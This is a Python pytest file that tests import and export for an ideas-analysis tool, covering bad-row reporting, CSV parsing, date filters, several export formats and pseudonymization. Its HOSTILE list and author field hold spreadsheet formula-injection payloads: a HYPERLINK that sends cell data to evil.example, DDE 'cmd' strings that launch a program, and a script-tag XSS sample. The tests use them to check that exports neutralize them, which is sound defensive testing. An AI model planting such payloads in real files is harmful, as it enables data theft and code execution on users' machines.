"""Import and export as an analyst sees them. Runs on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import json

import pandas as pd
import pytest

from report.export import COLUMNS

pytestmark = pytest.mark.postgres

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
    "+31 6 12345678 bel me",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\r=1+1",
    "<script>alert('x')</script> #innoverheid",
    "\u202eRTL override gnirts",
    "zero\u200bwidth\u200djoiner\ufeff",
    "emoji 👩🏽‍💻🏳️‍🌈🇳🇱 👍🏿 🧵",
    "lang " + "x" * 10_000,
    'quotes "double" and \'single\', commas, ; semicolons\nand a second line',
]


def _write_jsonl(path, rows):
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")


def test_import_reports_bad_rows_with_line_numbers_and_keeps_the_rest(workdir, run_cli):
    f = workdir / "ideas.jsonl"
    f.write_text(
        '{"text": "Meer thuiswerken #innoverheid", "author": "anne"}\n'
        '{"text": "kapot\n'
        '{"author": "bob"}\n'
        '[1, 2]\n'
        '{"text": "Minder vergaderen", "created_at": "gisteren"}\n'
        '{"text": "nul\\u0000byte"}\n'
        '{"text": "Open data standaard", "id": "w-7", "created_at": "2013-03-15T14:00:00+01:00"}\n',
        encoding="utf-8")
    result = run_cli("import", str(f))
    assert result.exit_code == 1
    assert "imported 2, already known 0, rejected 5" in result.stdout
    for line in (2, 3, 4, 5, 6):
        assert f"line {line}: rejected" in result.stderr
    assert "NUL" in result.stderr and "ISO 8601" in result.stderr
    again = run_cli("import", str(f))
    assert "imported 0, already known 2, rejected 5" in again.stdout


def test_csv_without_a_text_column_is_refused_as_a_whole(workdir, run_cli):
    f = workdir / "notes.csv"
    f.write_text("idee,auteur\nMeer lef,anne\n", encoding="utf-8")
    result = run_cli("import", str(f))
    assert result.exit_code == 2
    assert "'text' column" in result.stderr and "idee, auteur" in result.stderr


def test_csv_with_semicolons_bom_and_multiline_cells(workdir, run_cli):
    f = workdir / "excel.csv"
    f.write_bytes("\ufefftext;author\n\"Regel een\nregel twee\";anne\nKort;bob\n".encode("utf-8"))
    result = run_cli("import", str(f))
    assert result.exit_code == 0, result.output
    assert "imported 2" in result.stdout
    out = workdir / "out.jsonl"
    run_cli("export", "--out", str(out))
    texts = [json.loads(line)["text"] for line in out.read_text(encoding="utf-8").splitlines()]
    assert texts == ["Regel een\nregel twee", "Kort"]


def test_hostile_texts_round_trip_in_jsonl_and_are_inert_in_spreadsheets(workdir, run_cli):
    src = workdir / "hostile.jsonl"
    _write_jsonl(src, [{"id": f"h{i}", "text": t, "author": "=cmd|' /C calc'!A0"} for i, t in enumerate(HOSTILE)])
    assert run_cli("import", str(src)).exit_code == 0

    jl = workdir / "all.jsonl"
    assert run_cli("export", "--out", str(jl)).exit_code == 0
    back = [json.loads(line) for line in jl.read_text(encoding="utf-8").splitlines()]
    assert [r["text"] for r in back] == HOSTILE  # byte for byte

    c = workdir / "all.csv"
    assert run_cli("export", "--out", str(c)).exit_code == 0
    with c.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0])[: len(COLUMNS)] == COLUMNS
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[0]["text"] == "'" + HOSTILE[0]

    x = workdir / "all.xlsx"
    assert run_cli("export", "--out", str(x)).exit_code == 0
    from openpyxl import load_workbook

    ws = load_workbook(x).active
    header = [c.value for c in ws[1]]
    assert header[: len(COLUMNS)] == COLUMNS
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"  # never a live formula
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@"))


def test_export_formats_columns_and_filters(workdir, run_cli):
    src = workdir / "mix.jsonl"
    _write_jsonl(src, [
        {"id": "1", "text": "Een #innoverheid idee", "author": "anne", "created_at": "2013-02-04T09:00:00Z"},
        {"id": "2", "text": "Nog een #Innoverheid #HNW idee", "author": "bob", "created_at": "2013-03-15T09:00:00Z"},
        {"id": "3", "text": "Laatste", "author": "carla", "created_at": "2013-04-01T09:00:00Z"},
    ])
    run_cli("import", str(src), "--source", "workshop")
    pq = workdir / "x.parquet"
    assert run_cli("export", "--out", str(pq), "--since", "2013-03-01").exit_code == 0
    df = pd.read_parquet(pq)
    assert list(df.columns[: len(COLUMNS)]) == COLUMNS
    assert sorted(df["source_id"]) == ["2", "3"]
    assert str(df["created_at"].dt.tz) == "UTC"
    assert df.loc[df.source_id == "2", "hashtags"].item() == "innoverheid;hnw"

    c = workdir / "x.csv"
    run_cli("export", "--out", str(c), "--until", "2013-03-01", "--source", "workshop")
    df = pd.read_csv(c)
    assert list(df["source_id"].astype(str)) == ["1"]
    assert df["created_at"].item() == "2013-02-04T09:00:00Z"
    run_cli("export", "--out", str(c), "--source", "bluesky")
    assert pd.read_csv(c).empty


def test_pseudonymized_export_hides_authors_stably(workdir, run_cli, monkeypatch):
    src = workdir / "a.jsonl"
    _write_jsonl(src, [{"id": "at://did:plc:anne/1", "text": "a", "author": "anne", "url": "https://x.example/anne/1"},
                       {"id": "2", "text": "b", "author": "anne"}, {"id": "3", "text": "c", "author": "bob"}])
    run_cli("import", str(src))
    out = workdir / "p.csv"
    result = run_cli("export", "--out", str(out), "--pseudonymize")
    assert result.exit_code == 2 and "INNOVERHEID_PSEUDONYM_KEY" in result.stderr
    monkeypatch.setenv("INNOVERHEID_PSEUDONYM_KEY", "k3y-for-tests")
    assert run_cli("export", "--out", str(out), "--pseudonymize").exit_code == 0
    df = pd.read_csv(out)
    assert "anne" not in out.read_text() and "bob" not in out.read_text()
    assert df["author_handle"][0] == df["author_handle"][1] != df["author_handle"][2]
    assert "k3y-for-tests" not in out.read_text()
    # ids and links carry the handle or DID: they are hashed (stably) or dropped too
    assert "did:plc:anne" not in out.read_text() and "x.example" not in out.read_text()
    again = workdir / "p2.csv"
    run_cli("export", "--out", str(again), "--pseudonymize")
    assert list(pd.read_csv(again)["source_id"]) == list(df["source_id"])
